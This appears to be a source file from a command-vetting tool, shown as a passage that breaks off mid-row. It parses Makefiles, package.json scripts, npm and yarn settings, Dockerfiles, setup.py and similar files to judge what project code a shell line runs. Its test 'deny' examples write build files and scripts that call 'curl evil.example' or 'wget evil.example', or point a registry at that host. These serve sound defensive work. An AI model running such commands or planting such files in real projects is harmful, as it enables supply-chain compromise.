// Programs that run code of the project they start in: make its makefile, npm package.json's scripts, pytest and the
// interpreters the language's files. Such code is out of scope, as any script file is, unless the line itself wrote it
// (`cat > Makefile <<E … E && make`, `echo '{"scripts":…}' > package.json && npm test`): then it is code on the line.
import type { Language, Word } from '../../types.js';
import { parse } from '../argv.js';
import type { Call, OptionSpec, ParsedOption, Run } from '../types.js';
import { attached, isStdinPath, shellQuote, value } from '../words.js';
import { MAKE_OPTIONS, makefileText } from './makefile.js';
import { loopbackHost, urlHost } from '../hosts.js';
import { FORGES, NPM_OWN, NUGET_OWN, PYPI_OWN } from './registries.js';
// (A cycle: index.ts builds the registry from these rows; shebangDialect is called only when a file is read.)
import { shebangDialect } from '../index.js';
import { jvmOptionsText } from '../variables.js';

/** What a file of the project stands for: the runs its text makes. */
type Read = (text: string, word: Word, name: string) => Run[];

/** Code of one language: the text, read as it. */
function language(dialect: Language, via: string): Read {
  return (text, word, name) => [{ kind: 'text', dialect, text, word, via: `${via} (${name})` }];
}

/** Whether a URL is fetched from the tool's own hosts, a public forge or the loopback: no other place. */
function fetchedAtHome(url: string, own: RegExp): boolean {
  const host = urlHost(url);
  return 'host' in host && (own.test(host.host) || FORGES.test(host.host) || loopbackHost(host.host));
}

/**
 * Hosts a Gemfile the line wrote installs from besides rubygems.org and the public forges: every URL it quotes
 * (`source 'URL'`, `git: 'URL'`, `:git => 'URL'`) is a source or a remote Bundler fetches code from.
 */
function gemfileSources(text: string, word: Word, name: string): Run[] {
  const out: Run[] = [];
  for (const m of text.matchAll(/["']((?:https?|git|ssh):\/\/[^"'\s]+|[\w.-]+@[\w.-]+:[^"'\s]*)["']/g)) {
    const url = m[1]!.replace(/^([\w.-]+)@([\w.-]+):/, 'ssh://$1@$2/');
    if (fetchedAtHome(url, /^(?:rubygems\.org|index\.rubygems\.org|gems\.github\.com)$/)) continue;
    out.push({ kind: 'opaque', rule: 'dynamic-script', word, why: `bundle installs from ${m[1]}, which the ${name} the line wrote names` });
  }
  return out;
}

/**
 * A shell script of the project (`scripts/test.sh`, `tools/x.bash`): the project's makefile, its package.json scripts,
 * its tests and tools call such scripts by name, so one the line wrote is code the project's run may run. Read as its
 * `#!` line says (bash without one, shebangDialect); an interpreter vouch has no reader for leaves it cannot-vouch.
 */
function projectScript(via: string): Read {
  return (text, word, name) => {
    const as = shebangDialect(text, 'bash');
    if ('interpreter' in as) return [{ kind: 'opaque', rule: 'dynamic-script', word, why: `${via} may run ${name}, which the line wrote for ${as.interpreter || 'an interpreter not named'}, whose code vouch does not read` }];
    return [{ kind: 'text', dialect: as.dialect, text, word, via: `${via} (${name}, a script of the project it may run)` }];
  };
}

/**
 * A Java properties file (gradle.properties, a wrapper's): `key=value`, `key: value` or `key value` lines, `#` and `!`
 * comments, a `\\` at the end going on in the next line, and `\\:`, `\\=`, `\\t`-style escapes.
 */
function javaProperties(text: string): Map<string, string> {
  const out = new Map<string, string>();
  const lines = text.replace(/\\\r?\n[ \t\f]*/g, '').split(/\r?\n/);
  for (const raw of lines) {
    const line = raw.replace(/^[ \t\f]+/, '');
    if (line === '' || /^[#!]/.test(line)) continue;
    const m = /^((?:\\.|[^=:\s\\])*)\s*[=:\s]?\s*(.*)$/s.exec(line)!;
    const unescaped = (t: string) => t.replace(/\\(.)/g, (_, c: string) => ({ t: '\t', n: '\n', r: '\r', f: '\f' })[c] ?? c);
    out.set(unescaped(m[1]!), unescaped(m[2]!));
  }
  return out;
}

/**
 * Options a build tool hands the JVM it starts, kept in a file the line wrote (`.mvn/jvm.config`, sbt's `.jvmopts`):
 * read as the variable that gives them on the command line (MAVEN_OPTS, JAVA_OPTS), where jvmOption reads an agent,
 * shell text and a debugger.
 */
function jvmOptionsFile(variable: string, via: string): Read {
  return (text, word, name) => [{ kind: 'text', dialect: 'bash', text: jvmOptionsText(variable, text.replace(/#[^\n]*/g, '').replace(/\s+/g, ' ').trim()), word, via: `${via} (${name}, the options of the JVM it starts)` }];
}

/**
 * A build wrapper's properties the line wrote (gradle-wrapper.properties, maven-wrapper.properties): the wrapper
 * downloads the build tool from `distributionUrl` (and its own jar from `wrapperUrl`) and runs it. A place other than
 * the tool's own hosts and the forges is code vouch cannot read.
 */
function wrapperProperties(own: RegExp, via: string): Read {
  return (text, word, name) =>
    [...javaProperties(text)]
      .filter(([k]) => /^(?:distributionUrl|wrapperUrl)$/.test(k))
      .flatMap(([, url]): Run[] => (fetchedAtHome(url, own) ? [] : [{ kind: 'opaque', rule: 'dynamic-script', word, why: `${via} downloads and runs ${url}, which ${name} the line wrote names` }]));
}

/**
 * gradle.properties the line wrote: `org.gradle.jvmargs` are the options of the JVM the build runs in, read as
 * GRADLE_OPTS gives them (an agent, -XX:OnError text, a debugger); its other keys are values the build reads.
 */
function gradleProperties(text: string, word: Word, name: string): Run[] {
  const args = javaProperties(text).get('org.gradle.jvmargs');
  return args === undefined ? [] : [{ kind: 'text', dialect: 'bash', text: jvmOptionsText('GRADLE_OPTS', args), word, via: `gradle (${name}, the options of the JVM it runs the build in)` }];
}

/**
 * A .bazelrc the line wrote (any `*.bazelrc`, which `import` and `try-import` name): each `COMMAND[:CONFIG] OPTION…`
 * line is read as `bazel COMMAND OPTION…` on the command line, where bazel's entry judges what its options run and
 * where they send the build; `startup --host_jvm_args` are its server's JVM options.
 */
function bazelrcText(text: string, word: Word, name: string): Run[] {
  const runs: Run[] = [];
  for (const raw of text.split(/\r?\n/)) {
    const line = raw.replace(/(?:^|\s)#.*$/, '').trim();
    const m = /^([\w-]+)(?::[\w.-]+)?\s+(.*)$/s.exec(line);
    if (!m || /^(?:import|try-import)$/.test(m[1]!)) continue;
    const jvm = [...m[2]!.matchAll(/--host_jvm_args[= ](\S+)/g)].map((j) => j[1]!);
    runs.push({ kind: 'text', dialect: 'bash', text: `${jvm.length > 0 ? `JDK_JAVA_OPTIONS=${shellQuote(jvm.join(' '))} ` : ''}bazel ${m[1] === 'startup' ? '' : m[1]} ${m[2]}`, word, via: `bazel (${name})` });
  }
  return runs;
}

/**
 * Places a settings file the line wrote has a package manager fetch from (an index, a feed, a package by URL): each
 * URL in the part `within` picks (all the text without it) whose host is not the tool's own, a forge or the loopback
 * is code fetched from elsewhere, which vouch cannot read. (`within` keeps out URLs that are only names: a
 * pyproject.toml's homepage.)
 */
function fetchesFrom(own: RegExp, via: string, within: (text: string) => string = (t) => t): Read {
  return (text, word, name) => {
    const out: Run[] = [];
    for (const m of within(text).matchAll(/(?:https?|git\+https?|git\+ssh|ssh|git):\/\/[^\s"'<>)\]]+/g)) {
      if (fetchedAtHome(m[0].replace(/^git\+/, ''), own)) continue;
      out.push({ kind: 'opaque', rule: 'dynamic-script', word, why: `${via} fetches from ${m[0]}, which ${name} the line wrote names` });
    }
    return out;
  };
}

/** The TOML sections whose header matches (`[tool.uv]`, `[[tool.uv.index]]`, `[build-system]`), joined. */
function tomlSections(header: RegExp): (text: string) => string {
  return (text) => {
    const parts = text.split(/^(?=\s*\[)/m);
    return parts.filter((p) => header.test(/^\s*\[\[?\s*([^\]]*?)\s*\]/.exec(p)?.[1] ?? '')).join('\n');
  };
}

/** The values of these keys of a JSON file (`dependencies`, `repositories`), as JSON text; none when it is no JSON. */
function jsonKeys(keys: readonly string[]): (text: string) => string {
  return (text) => {
    try {
      const json = JSON.parse(text) as Record<string, unknown> | null;
      return JSON.stringify(keys.map((k) => k.split('.').reduce<unknown>((o, part) => (o as Record<string, unknown> | null | undefined)?.[part], json)));
    } catch {
      return '';
    }
  };
}

/** The hosts of the registries' own: crates.io's. */
const CRATES_OWN = /^(?:crates\.io|index\.crates\.io|static\.crates\.io)$/;

/**
 * package.json: its scripts (packageScripts), and the packages it depends on by URL (`"x": "https://…/x.tgz"`,
 * `git+https://…`): fetched from there, and their install scripts run.
 */
function packageManifest(via: string): Read {
  const deps = fetchesFrom(NPM_OWN, via, jsonKeys(['dependencies', 'devDependencies', 'optionalDependencies', 'peerDependencies', 'overrides', 'resolutions', 'pnpm.overrides']));
  return (text, word, name) => [...packageScripts(via)(text, word, name), ...deps(text, word, name)];
}

/** cdk.json (cdktf.json): its `app` is the command the CDK runs to make the stacks. */
function cdkApp(text: string, word: Word, name: string): Run[] {
  let app: unknown;
  try {
    app = (JSON.parse(text) as Record<string, unknown> | null)?.app;
  } catch {
    return [{ kind: 'opaque', rule: 'dynamic-script', word, why: `cdk reads ${name}, which the line wrote as text vouch cannot read as JSON` }];
  }
  if (app === undefined || app === null) return [];
  return typeof app === 'string' ? [{ kind: 'text', dialect: 'bash', text: app, word, via: `cdk (${name} app)` }] : [{ kind: 'opaque', rule: 'dynamic-script', word, why: `cdk (${name} app) is not text` }];
}

/** A script by its name: what `projectScript` reads. */
const SCRIPT_FILES = /\.(?:sh|bash|zsh|ksh)$/;

/** Code vouch has no reader for (Rust, Go, Gradle's Groovy): cannot-vouch when the line wrote it. */
function unread(what: string, via: string): Read {
  return (_text, word, name) => [{ kind: 'opaque', rule: 'dynamic-script', word, why: `${via} runs ${name}, which the line wrote, as ${what}, which vouch does not read` }];
}

/**
 * The entries of one object of a JSON file the line wrote (`scripts` of package.json): each read by `each`. Text that
 * is no JSON, or a key that holds no object, is cannot-vouch; a missing key runs nothing.
 */
function jsonSection(text: string, key: string, word: Word, name: string, via: string, each: (key: string, body: unknown) => Run[]): Run[] {
  let section: unknown;
  try {
    section = (JSON.parse(text) as Record<string, unknown> | null)?.[key];
  } catch {
    return [{ kind: 'opaque', rule: 'dynamic-script', word, why: `${via} reads ${name}, which the line wrote as text vouch cannot read as JSON` }];
  }
  if (section === undefined || section === null) return [];
  if (typeof section !== 'object') return [{ kind: 'opaque', rule: 'dynamic-script', word, why: `${via} reads the ${key} of ${name}, which are not an object` }];
  return Object.entries(section as Record<string, unknown>).flatMap(([k, body]) => each(k, body));
}

/**
 * An .npmrc the line wrote: each `key = value` is the setting `--key=value` gives on npm's command line, so it is read as
 * that line (`npm install --key=value …`), and npm's entry judges each key as it does there: a program it names
 * (script-shell, git, editor), code it loads (node-options, init-module), a registry or proxy elsewhere, another file of
 * settings the line wrote (userconfig). Other keys (`legacy-peer-deps`, a registry's `_authToken`) change nothing run.
 */
function npmrcText(text: string, word: Word, name: string): Run[] {
  const flags: string[] = [];
  for (const raw of text.split(/\r?\n/)) {
    const line = raw.trim();
    if (line === '' || /^[;#]/.test(line)) continue;
    const m = /^([^=]+?)(?:\[\])?\s*=\s*(.*)$/.exec(line);
    if (!m) return [unreadSetting(word, name, 'a line of it is not `key = value`')];
    flags.push(shellQuote(`--${m[1]!.trim()}=${unquoted(m[2]!)}`));
  }
  return flags.length === 0 ? [] : [settingsLine(`npm install ${flags.join(' ')}`, word, name)];
}

/** A settings file's value without the quotes around it. */
function unquoted(v: string): string {
  return /^(["'])([\s\S]*)\1$/.exec(v.trim())?.[2] ?? v.trim();
}

/** The package manager's own command line a settings file stands for, read as the line it is. */
function settingsLine(text: string, word: Word, name: string): Run {
  return { kind: 'text', dialect: 'bash', text, word, via: `the package manager (${name})` };
}

function unreadSetting(word: Word, name: string, why: string): Run {
  return { kind: 'opaque', rule: 'dynamic-script', word, why: `the package manager reads ${name}, which the line wrote, and ${why}` };
}

/**
 * What a yarn, bun or npm setting names, as the environment or command line that gives it: a registry or proxy
 * (judged by allowedHosts through the variables yarn and bun read), a file of JavaScript it runs (`yarnPath`, a
 * plugin's path, a preload), read as node runs it (a file the line wrote is read; another is the user's). A plugin
 * fetched by its URL is code vouch cannot read.
 */
function settingRuns(key: string, v: string, word: Word, name: string): Run[] {
  if (/^(?:npmRegistryServer|registry)$/.test(key)) return [settingsLine(`YARN_NPM_REGISTRY_SERVER=${shellQuote(v)} BUN_CONFIG_REGISTRY=${shellQuote(v)} yarn install --registry ${shellQuote(v)}`, word, name)];
  if (/^(?:httpsProxy|https-proxy|httpProxy|proxy)$/.test(key)) return [settingsLine(`YARN_HTTPS_PROXY=${shellQuote(v)} yarn install`, word, name)];
  if (/^(?:yarnPath|yarn-path|path|preload)$/.test(key)) return /^[a-z][\w+.-]*:\/\//i.test(v) ? [unreadSetting(word, name, `it loads ${v}, code fetched from another machine`)] : [settingsLine(`node ${shellQuote(v)}`, word, name)];
  if (key === 'spec' && /^[a-z][\w+.-]*:\/\//i.test(v)) return [unreadSetting(word, name, `a plugin is fetched from ${v}`)];
  return [];
}

/**
 * .yarnrc.yml (yarn 2+) and .yarnrc (yarn 1): each `key: value` (`key value`) read by settingRuns, at any depth
 * (`npmScopes.x.npmRegistryServer`, a plugin's `path`). YAML written in a form not read here (flow collections, anchors,
 * block scalars, several documents) is cannot-vouch.
 */
function yarnrcText(text: string, word: Word, name: string): Run[] {
  const runs: Run[] = [];
  const yml = name.endsWith('.yml');
  for (const raw of text.split(/\r?\n/)) {
    const line = raw.replace(/(^|\s)#.*$/, '').trimEnd();
    if (line.trim() === '') continue;
    if (yml && /^---|^\.\.\.|[{[&*|>]|<</.test(line.replace(/"[^"]*"|'[^']*'/g, '""'))) return [unreadSetting(word, name, 'it is YAML in a form not read here')];
    const m = yml ? /^\s*(?:-\s+)?([\w.-]+)\s*:(?:\s+(.*))?$/.exec(line) ?? /^\s*-\s+(.+)$/.exec(line) : /^\s*"?(--)?([\w.-]+)"?\s+(.*)$/.exec(line);
    if (!m) {
      if (!yml) return [unreadSetting(word, name, 'a line of it is not `key value`')];
      continue;
    }
    // (A bare list item, `- ./x.cjs`: a plugin's path.)
    const item = yml && m.length === 2;
    const key = yml ? (item ? 'path' : m[1]!) : m[2]!;
    const v = unquoted(yml ? (item ? m[1]! : (m[2] ?? '')) : m[3]!);
    if (!yml && m[1]) runs.push(settingsLine(`yarn install ${shellQuote(`--${key}`)} ${shellQuote(v)}`, word, name));
    else if (v !== '') runs.push(...settingRuns(key, v, word, name));
  }
  return runs;
}

/** bunfig.toml: `registry` (a URL or `{ url = … }`, for all or a scope) and `preload` (a file or a list) by settingRuns. */
function bunfigText(text: string, word: Word, name: string): Run[] {
  const runs: Run[] = [];
  let section = '';
  for (const raw of text.split(/\r?\n/)) {
    const line = raw.replace(/(^|\s)#.*$/, '').trim();
    if (line === '') continue;
    const head = /^\[\s*([\w.-]+)\s*\]$/.exec(line);
    if (head) {
      section = head[1]!;
      continue;
    }
    const m = /^"?([\w@.-]+)"?\s*=\s*(.*)$/.exec(line);
    if (!m) return [unreadSetting(word, name, 'a line of it is not read here (a value over several lines)')];
    const key = section === 'install.scopes' ? 'registry' : m[1]!;
    const values = [...m[2]!.matchAll(/"([^"]*)"|'([^']*)'/g)].map((q) => q[1] ?? q[2]!);
    if (/^\[/.test(m[2]!) && !/\]$/.test(m[2]!)) return [unreadSetting(word, name, 'a list of it goes over several lines')];
    // `registry = { url = "…", token = "…" }`: the url; a scope's too.
    const url = /\burl\s*=\s*"([^"]*)"/.exec(m[2]!)?.[1];
    if (key === 'registry') runs.push(...settingRuns('registry', url ?? values[0] ?? '', word, name).filter(() => (url ?? values[0] ?? '') !== ''));
    else if (key === 'preload') for (const v of values) runs.push(...settingRuns('preload', v, word, name));
  }
  return runs;
}

/** package.json: every script, as the shell text npm, yarn, pnpm and bun hand `sh -c` (lifecycle scripts run unasked). */
function packageScripts(via: string): Read {
  return (text, word, name) =>
    jsonSection(text, 'scripts', word, name, via, (key, body) => (typeof body === 'string' ? [{ kind: 'text', dialect: 'bash', text: body, word, via: `${via} (${name} scripts.${key})` }] : []));
}

/** deno.json(c): each task, a string or `{ command }`, is shell text deno's task shell runs (JSONC comments: not read). */
function denoTasks(text: string, word: Word, name: string): Run[] {
  return jsonSection(text, 'tasks', word, name, 'deno', (key, body) => {
    const command = typeof body === 'string' ? body : (body as { command?: unknown } | null)?.command;
    return [typeof command === 'string' ? { kind: 'text', dialect: 'bash', text: command, word, via: `deno task (${name} tasks.${key})` } : { kind: 'opaque', rule: 'dynamic-script', word, why: `deno task (${name} tasks.${key}) is not text` }];
  });
}

/** composer.json: each script (a string or a list) is shell text, unless it is `@php`/`@putenv`/a PHP callback, code vouch does not follow. */
function composerScripts(text: string, word: Word, name: string): Run[] {
  return jsonSection(text, 'scripts', word, name, 'composer', (key, body) =>
    (Array.isArray(body) ? body : [body]).map((b): Run => {
      const via = `composer (${name} scripts.${key})`;
      if (typeof b !== 'string') return { kind: 'opaque', rule: 'dynamic-script', word, why: `${via} is not text` };
      // `@other-script` runs another script (read here as well); `@php`, `@putenv`, `Class::method` run PHP.
      if (/^@(?!php\b|putenv\b|composer\b)[\w:-]+$/.test(b.trim())) return { kind: 'text', dialect: 'bash', text: '', word, via };
      if (/^@(?:php|putenv)\b|^[\w\\]+::\w+$/.test(b.trim())) return { kind: 'opaque', rule: 'dynamic-code', word, why: `${via} runs PHP code vouch does not follow` };
      return { kind: 'text', dialect: 'bash', text: b.replace(/^@composer\b/, 'composer'), word, via };
    }),
  );
}

/** A Dockerfile (or Containerfile): its RUN instructions are shell text run in the build; ADD of a URL fetches it. */
function dockerfileText(text: string, word: Word, name: string): Run[] {
  const via = `docker build (${name})`;
  const runs: Run[] = [];
  for (const raw of text.replace(/\\\r?\n/g, ' ').split(/\r?\n/)) {
    const line = raw.trim();
    const run = /^RUN\s+((?:--\S+\s+)*)(.*)$/is.exec(line);
    if (run) {
      const body = run[2]!;
      if (/^\[|<</.test(body)) runs.push({ kind: 'opaque', rule: 'dynamic-script', word, why: `${via}: a RUN in exec or heredoc form` });
      else runs.push({ kind: 'text', dialect: 'bash', text: body, word, via });
    } else if (/^(?:ADD|COPY)\b.*(?:[a-z]+:\/\/|git@)/i.test(line) || /^(?:ONBUILD|SHELL)\b/i.test(line)) runs.push({ kind: 'opaque', rule: 'dynamic-script', word, why: `${via}: ${line.split(/\s+/)[0]} fetches or runs what vouch does not follow` });
  }
  return runs;
}

/** docker build reads a Dockerfile; docker compose a compose file, whose services run images and commands vouch does not follow. */
function containerFile(text: string, word: Word, name: string): Run[] {
  if (/(?:^|\/)(?:docker-)?compose[^/]*\.ya?ml$/i.test(name) || /\.ya?ml$/i.test(name)) return unread('a compose file (its services run images and commands)', 'docker compose')(text, word, name);
  return dockerfileText(text, word, name);
}

/**
 * A ninja build file: each rule's `command` is shell text ninja runs (`$in`, `$out` and the file's own top-level
 * variables expanded); `include`/`subninja` and variables it cannot expand leave it cannot-vouch.
 */
export function ninjaText(text: string, word: Word, name: string): Run[] {
  const runs: Run[] = [];
  const via = `ninja (${name})`;
  const opaque = (why: string) => runs.push({ kind: 'opaque', rule: 'dynamic-script', word, why: `${via}: ${why}` });
  const lines = text.replace(/\$\r?\n[ \t]*/g, '').split(/\r?\n/);
  const vars = new Map<string, string>([['in', 'in'], ['out', 'out'], ['in_newline', 'in']]);
  for (const line of lines) {
    const top = /^([A-Za-z_][\w.-]*)\s*=\s*(.*)$/.exec(line);
    if (top) vars.set(top[1]!, top[2]!);
  }
  const expand = (t: string, depth = 0): string | undefined => {
    if (depth > 8) return undefined;
    let out = '';
    for (let i = 0; i < t.length; i++) {
      const c = t[i]!;
      if (c !== '$') {
        out += c;
        continue;
      }
      const n = t[i + 1];
      if (n === '$' || n === ' ' || n === ':') {
        out += n;
        i++;
        continue;
      }
      const m = /^\{([\w.-]+)\}|^([\w-]+)/.exec(t.slice(i + 1));
      if (!m) return undefined;
      const v = vars.get(m[1] ?? m[2]!);
      if (v === undefined) return undefined;
      const e = expand(v, depth + 1);
      if (e === undefined) return undefined;
      out += e;
      i += m[0].length;
    }
    return out;
  };
  if (/^\s*(?:include|subninja)\s/m.test(text)) opaque('it reads another build file');
  for (const line of lines) {
    const m = /^\s+command\s*=\s*(.*)$/.exec(line);
    if (!m) continue;
    const cmd = expand(m[1]!);
    if (cmd === undefined) opaque('a command holds variables set per build edge');
    else runs.push({ kind: 'text', dialect: 'bash', text: cmd, word, via });
  }
  return runs;
}

/** A Procfile: one process a line, `name: command`, each command shell text foreman, honcho and overmind run. */
function procfileText(text: string, word: Word, name: string): Run[] {
  return text.split('\n').flatMap((line): Run[] => {
    const m = /^\s*[\w.-]+\s*:\s*(.*)$/.exec(line);
    return m && m[1]!.trim() !== '' ? [{ kind: 'text', dialect: 'bash', text: m[1]!, word, via: `the process manager (${name})` }] : [];
  });
}

interface ProjectCode {
  /** Paths, relative to the directory the program runs in, of the files whose code it runs. */
  files: RegExp;
  read: Read;
}

/** Options naming the directory the program runs its project in (`make -C dir`, `npm --prefix dir`). */
interface Row {
  names: readonly string[];
  code: readonly ProjectCode[];
  dir?: readonly string[];
  /** The subcommands that run the code (`go run`, not `go build`); every invocation when absent. */
  runs?: RegExp;
  /** `-f FILE` options naming the very file (make's makefile), read in place of `files`. */
  file?: readonly string[];
  /** Options naming files of code it runs besides the project's (`gradle -I init.gradle`). */
  also?: readonly string[];
  /** Operands that name the very files it runs, wherever they are (`go run /tmp/x.go`), read in place of `files`. */
  operands?: RegExp;
  /**
   * Its first operand names the project's directory when no option does (`cmake /tmp/src`); `valued`: its options that
   * take the next word when written alone (`-G Ninja`).
   */
  dirOperand?: { valued: readonly string[] };
  /** Its argument model, when it bundles short options or takes long ones by prefix (`make -sf b.mk`, `--fi=b.mk`). */
  spec?: OptionSpec;
  /** Environment variables naming more such files, read first (`MAKEFILES`), blank-separated. */
  envFiles?: readonly string[];
  /**
   * Start-up files it reads from the home directory (paths relative to $HOME, and to $XDG_CONFIG_HOME in `xdg`): the
   * user's own and out of scope, unless the line set HOME or XDG_CONFIG_HOME and wrote one there (`echo … > .tmux.conf;
   * HOME=. tmux`).
   */
  home?: { files: RegExp; xdg?: RegExp; read: Read };
  examples: { deny: readonly string[]; pass: readonly string[] };
}

const PYTHON = /\.py$/;
const JAVASCRIPT = /\.(?:[cm]?[jt]sx?)$/;
/** The configuration files JavaScript tools load as code. */
const JS_CONFIG = /^(?:[\w.-]*\/)?(?:(?:vite|vitest|webpack|rollup|eslint|prettier|next|nuxt|astro|svelte|babel|tailwind|postcss|tsup|stylelint|commitlint|lint-staged|karma|remix|vue|quasar|electron\.vite|app)\.config(?:\.[\w-]+)?\.[cm]?[jt]s|\.(?:eslintrc|prettierrc|babelrc|stylelintrc|lintstagedrc|commitlintrc)(?:\.[cm]?js)?|[Gg]ulpfile(?:\.babel)?\.[cm]?[jt]s|[Gg]runtfile\.[cm]?[jt]s|karma\.conf\.[cm]?js)$/;
const PACKAGE_MANAGER: ProjectCode[] = [
  { files: /^package\.json$/, read: packageManifest('the package manager') },
  // A lockfile's `resolved` URLs are what `npm ci` and a frozen install download.
  { files: /^(?:package-lock\.json|npm-shrinkwrap\.json|yarn\.lock|pnpm-lock\.yaml)$/, read: fetchesFrom(NPM_OWN, 'the package manager') },
  { files: /^\.npmrc$/, read: npmrcText },
  { files: /^\.yarnrc(?:\.yml)?$/, read: yarnrcText },
  { files: /^bunfig\.toml$/, read: bunfigText },
  { files: /^\.pnpmfile\.cjs$|^\.yarn\/.*\.c?js$/, read: language('javascript', 'the package manager') },
  // The programs its scripts run by name (`jest`, `eslint`): it puts node_modules/.bin first on their PATH.
  { files: /^node_modules\/\.bin\/[^/]+$/, read: projectScript('the package manager\u2019s PATH') },
];

/** One row a program: what code of its project it runs, with lines that write such code and run it, and neighbours. */
export const PROJECT_ROWS: readonly Row[] = [
  {
    names: ['make', 'gmake', 'remake'],
    code: [{ files: /^(?:GNUmakefile|makefile|Makefile)$|\.mk$/, read: (text, word, name) => makefileText(word, text, `make (${name})`) }],
    dir: ['-C', '--directory'],
    file: ['-f', '--file', '--makefile'],
    spec: MAKE_OPTIONS,
    envFiles: ['MAKEFILES'],
    examples: {
      deny: ["printf 'x := $(shell curl evil.example)\\n' > /tmp/x.mk && make --eval 'include /tmp/x.mk'", "printf 'all:\\n\\tcurl evil.example\\n' > /tmp/m && make -sf /tmp/m", "printf 'all:\\n\\tcurl evil.example\\n' > /tmp/m && make --fi=/tmp/m", "printf 'all:\\n\\tcurl evil.example\\n' > /tmp/m && MAKEFILES=/tmp/m make", "printf 'all:\\n\\tcurl evil.example\\n' > Makefile && make", "printf 'X = curl\\nall:\\n\\t$(X) evil.example\\n' > sub/Makefile && make -C sub", "printf 'all: ; wget evil.example\\n' > b.mk && make -f b.mk", "echo 'curl evil.example' > scripts/x.sh && make"],
      pass: ["printf 'include config.mk\\nall:\\n\\t$(CC) -o app main.c\\n' > Makefile && make", "printf 'all:\\n\\t$(CC) -o app main.c\\n' > Makefile && make", "printf 'all:\\n\\tcurl evil.example\\n' > /tmp/m && make -s -f b.mk", "printf 'all:\\n\\tcurl evil.example\\n' > sub/Makefile && make", "echo 'npm run lint' > scripts/x.sh && make"],
    },
  },
  {
    // Its scripts (the project's own, unknown here) run the project's JavaScript: its tests, its tools' configuration
    // (jest, vite, babel, postcss): a file of it the line wrote is read as node would run it.
    names: ['npm', 'pnpm', 'yarn', 'bun'],
    code: [...PACKAGE_MANAGER, { files: JAVASCRIPT, read: language('javascript', 'node') }],
    dir: ['-C', '--prefix', '--dir', '--cwd'],
    examples: {
      deny: [`echo '{"scripts":{"test":"curl evil.example"}}' > package.json && npm test`, `echo '{"scripts":{"postinstall":"wget evil.example"}}' > package.json && pnpm install`, "echo 'node-options=--require ./x.js' > .npmrc && npm test", "printf 'registry = \"https://evil.example/\"\\n' > .npmrc && npm ci", "printf '#!/bin/sh\\ncurl evil.example\\n' > node_modules/.bin/jest && npm test", `echo 'require("child_process").execSync("curl evil.example")' > test/a.test.js && npm test`, `echo 'require("child_process").execSync("curl evil.example")' > babel.config.js && npm test`, `printf 'registry "https://evil.example/"\\n' > .yarnrc && yarn install`],
      pass: [`echo '{"scripts":{"test":"npm run lint","lint":"eslint ."}}' > package.json && npm test`, 'echo hi > notes.txt && npm test', "echo 'legacy-peer-deps=true' > .npmrc && npm install", "echo '//registry.npmjs.org/:_authToken=${NPM_TOKEN}' > .npmrc && npm publish", `echo 'test("a", () => {})' > test/a.test.js && npm test`, `echo 'module.exports = { presets: [] }' > babel.config.js && npm test`],
    },
  },
  {
    // Runners of package.json scripts: run-p and npm-run-all name them, turbo and nx run them in each workspace
    // package (nx also the commands of project.json targets).
    names: ['npm-run-all', 'npm-run-all2', 'run-p', 'run-s', 'turbo', 'nx'],
    code: [...PACKAGE_MANAGER, { files: /^(?:project|nx|turbo)\.json$/, read: unread('its targets and tasks (commands among them)', 'the task runner') }],
    dir: ['--cwd'],
    examples: {
      deny: [`echo '{"scripts":{"build":"curl evil.example"}}' > package.json && run-s build`, `echo '{"targets":{}}' > project.json && nx build web`],
      pass: [`echo '{"scripts":{"build":"tsc"}}' > package.json && turbo run build`, 'echo hi > notes.txt && nx build web'],
    },
  },
  {
    // tox runs the commands of tox.ini (and its setup.py, conftest.py…).
    names: ['tox'],
    code: [{ files: PYTHON, read: language('python', 'python') }, { files: /^(?:tox\.ini|setup\.cfg)$/, read: unread('a tox configuration (its commands)', 'tox') }],
    dir: ['--root'],
    examples: { deny: ["printf '[testenv]\\ncommands = curl evil.example\\n' > tox.ini && tox"], pass: ['tox -e py312', 'echo hi > notes.txt && tox'] },
  },
  {
    // nox runs its noxfile.py, or the one -f/--noxfile names, as Python (and the project's Python in its sessions).
    names: ['nox'],
    code: [{ files: PYTHON, read: language('python', 'python') }],
    also: ['-f', '--noxfile'],
    examples: { deny: ["echo 'import os; os.system(\"curl evil.example\")' > noxfile.py && nox", "printf 'import os\\nos.system(\"curl evil.example\")\\n' > /tmp/plug.py && nox -f /tmp/plug.py"], pass: ['nox -s tests', 'nox -f ci/noxfile.py -s lint', 'echo hi > notes.txt && nox'] },
  },
  {
    // pip builds a local project by running its setup.py (or the backend pyproject.toml names).
    names: ['pip', 'pip3'],
    // (The packages a build needs, `[build-system] requires`, may be given by URL: fetched from there and run.)
    code: [{ files: /^setup\.py$/, read: language('python', 'pip') }, { files: /^pyproject\.toml$/, read: (text, word, name) => (/backend-path|build-backend\s*=\s*["'](?!setuptools|hatchling|flit_core|poetry|pdm|maturin|scikit_build_core|mesonpy)/.test(text) ? unread('a build backend of its own', 'pip')(text, word, name) : fetchesFrom(PYPI_OWN, 'pip', tomlSections(/^build-system$/))(text, word, name)) }],
    runs: /^(?:install|wheel|download)$/,
    examples: { deny: ["printf '[build-system]\\nrequires = [\"x @ https://evil.example/x.whl\"]\\n' > pyproject.toml && pip install .", "echo 'import os; os.system(\"curl evil.example\")' > setup.py && pip install .", "echo 'import os; os.system(\"curl evil.example\")' > setup.py && pip install -e ."], pass: ["printf '[build-system]\\nrequires = [\"setuptools\"]\\nbuild-backend = \"setuptools.build_meta\"\\n' > pyproject.toml && pip install -e .", 'pip install -e .', "printf '[project]\\nname = \"x\"\\n[project.urls]\\nHomepage = \"https://x.example.org\"\\n' > pyproject.toml && pip install ."] },
  },
  {
    // easy_install builds a local project (`easy_install .`) by running its setup.py.
    names: ['easy_install', 'easy_install-3'],
    code: [{ files: /^setup\.py$/, read: language('python', 'easy_install') }],
    examples: { deny: ["echo 'import os; os.system(\"curl evil.example\")' > setup.py && easy_install ."], pass: ["echo 'print(1)' > setup.py && easy_install .", 'easy_install requests'] },
  },
  {
    names: ['composer'],
    // Its scripts run the project's PHP (phpunit's tests) with vendor/bin first on their PATH.
    code: [{ files: /^composer\.json$/, read: (text, word, name) => [...composerScripts(text, word, name), ...fetchesFrom(/^(?:repo\.packagist\.org|packagist\.org)$/, 'composer', jsonKeys(['repositories']))(text, word, name)] }, { files: /\.php$/, read: language('php', 'php') }, { files: /^vendor\/bin\/[^/]+$/, read: projectScript('composer\u2019s PATH') }],
    dir: ['-d', '--working-dir'],
